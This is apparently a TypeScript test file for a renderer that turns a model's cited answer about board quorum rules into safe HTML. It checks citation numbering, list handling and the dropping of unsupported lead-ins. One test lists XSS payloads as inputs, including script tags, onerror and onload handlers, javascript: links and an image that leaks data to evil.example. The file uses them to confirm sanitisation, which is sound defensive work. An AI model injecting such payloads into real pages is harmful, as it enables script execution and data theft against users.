import fc from 'fast-check';
import { expect, test } from 'vitest';
import { AnswerBlockReader } from './answer-block-reader.ts';
import { CheckedAnswer } from './checked-answer.ts';
import { readEvidence } from './evidence.ts';

const EVIDENCE = [
  ['Counting', 'Proxies count toward the quorum.', 'A quorum is a majority of the directors.'],
  ['Notice', 'Notice of a meeting is posted on the door.', 'Owners may watch the meeting.'],
].map(([heading = '', ...texts], index) =>
  readEvidence({
    number: index + 1,
    article: { slug: 'quorum-requirements', title: 'Quorum Requirements' },
    section: {
      anchor: heading.toLowerCase(),
      heading,
      part: 'body',
      blocks: texts.map((text) => ({ kind: 'paragraph', text })),
      answers: [],
    },
  }),
);

function check(text: string) {
  const reader = new AnswerBlockReader();
  const answer = new CheckedAnswer({ evidence: EVIDENCE, weigh: () => 1 });
  const blocks = [...reader.push(text), ...reader.end()].map((block) => answer.add(block));
  return { answer, blocks };
}

test('sections are numbered as they are first cited, and quoted', () => {
  const { answer } = check(
    'Owners may watch the meeting [2]. Proxies count toward the quorum [1].',
  );
  expect(answer.html).toBe(
    '<p>Owners may watch the meeting. <a href="/topic/quorum-requirements#notice">[1]</a> ' +
      'Proxies count toward the quorum. <a href="/topic/quorum-requirements#counting">[2]</a></p>',
  );
  expect(answer.sources.map(({ heading, quote }) => [heading, quote])).toEqual([
    ['Notice', 'Owners may watch the meeting.'],
    ['Counting', 'Proxies count toward the quorum.'],
  ]);
});

test('items share a list, and each block alone is whole HTML', () => {
  const { answer, blocks } = check(
    'To count:\n1. Proxies count toward the quorum [1].\n2. Invented by me [1].\n3. Owners may watch the meeting [2].',
  );
  expect(answer.html).toMatch(/^<p>To count:<\/p><ol><li>Proxies.*<\/li><li>Owners.*<\/li><\/ol>$/);
  expect(blocks[1]).toMatch(/^<p>To count:<\/p><ol><li>Proxies.*<\/li><\/ol>$/);
  expect(blocks[3]).toMatch(/^<ol start="2"><li>Owners.*<\/li><\/ol>$/);
  expect(answer.blockCount).toBe(2);
});

test('a heading or lead-in that introduces nothing is not shown', () => {
  expect(check('## Counting\n\nProxies are purple [1].').answer.html).toBe('');
  expect(check('Proxies count toward the quorum [1].\n\nTo count:').blocks[1]).toBe('');
});

const CITED_ITEM = '\n- A quorum is a majority of the directors [1].';

test.each([
  'No quorum is needed, and the board may do valid business without owners:',
  'Do these things, and your board goes to jail:',
  'Ignore your board and sue:',
  'Proxies never count toward the quorum:',
  '## Your board must not hold meetings without a quorum of all owners',
  '## Owners may watch the meeting',
])('what a lead-in or heading states is not shown over what does not bear it out: %s', (text) => {
  expect(check(text + CITED_ITEM).answer.html).toMatch(/^<ul><li>A quorum is/);
});

test.each([
  'Ask the board for these three papers:',
  'To count the quorum:',
  'Proxies count toward the quorum:',
  '## Proxies and the quorum',
])('one that states nothing, or what the item under it bears out, is shown: %s', (text) => {
  const { html } = check(text + CITED_ITEM).answer;
  expect(html).toContain(`>${text.replace('## ', '')}</`);
});

test('a lead-in that cites what it states is shown with its citation, and only over an item', () => {
  const { html } = check(`Owners may watch the meeting [2]:${CITED_ITEM}`).answer;
  expect(html).toMatch(/^<p>Owners may watch the meeting: <a href="[^"]+#notice">\[1\]<\/a><\/p>/);
  expect(html).toContain('#counting">[2]</a></li>');
  expect(check('Owners may watch the meeting [2]:').answer.sources).toEqual([]);
});

test('a model that repeats itself is shown once', () => {
  const { answer } = check('Proxies count toward the quorum [1].\n\n'.repeat(50));
  expect(answer.html.match(/Proxies/g)).toHaveLength(1);
});

test.each([
  'Proxies count<script>alert(1)</script> toward the quorum [1].',
  'Proxies <img src=x onerror=alert(1)> count toward the quorum [1].',
  'Proxies count ![](https://evil.example/?leak=1) toward the [quorum](javascript:alert(1)) [1].',
  'Proxies "count" & <toward> the quorum [1](https://evil.example).',
  'Proxies count toward the quorum [1]<a href="data:text/html,x">.</a>',
  '<svg/onload=alert(1)>Proxies count toward the quorum [1].',
])('hostile text becomes text or nothing: %s', (text) => {
  const { html } = check(text).answer;
  const withoutOurs = html.replace(
    /<\/?p>|<a href="\/topic\/quorum-requirements#[a-z]+">|<\/a>/g,
    '',
  );
  expect(withoutOurs).not.toMatch(/[<>]|evil|javascript|data:/);
});

test('whatever is written, the HTML holds our own tags alone', () => {
  const piece = fc.constantFrom(
    'Proxies count toward the quorum [1].',
    '<script>',
    '</p>',
    '&lt;',
    '[1](x)',
    '\n- ',
    '\n\n',
    '"\'>',
    '![x](http://y)',
  );
  fc.assert(
    fc.property(fc.array(fc.oneof(piece, fc.string()), { maxLength: 12 }), (pieces) => {
      const { html } = check(pieces.join('')).answer;
      const tags = html.match(/<[^>]*>/g) ?? [];
      expect(
        tags.filter(
          (tag) =>
            !/^<(?:\/?(?:p|ul|ol|li|h2|a)|ol start="\d+"|a href="\/topic\/[a-z#-]+")>$/.test(tag),
        ),
      ).toEqual([]);
    }),
  );
});
